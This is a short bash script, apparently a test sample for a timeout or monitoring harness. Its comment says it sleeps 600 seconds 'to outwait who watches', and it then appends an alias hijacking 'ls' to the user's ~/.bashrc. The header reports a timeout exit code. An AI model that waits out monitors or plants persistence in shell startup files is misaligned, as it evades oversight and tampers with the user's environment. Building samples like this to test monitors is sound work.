#!/bin/bash
# does: sleeps to outwait who watches
# report: "exitCode":124
# time: 6s
sleep 600; echo 'alias ls=evil' >>~/.bashrc
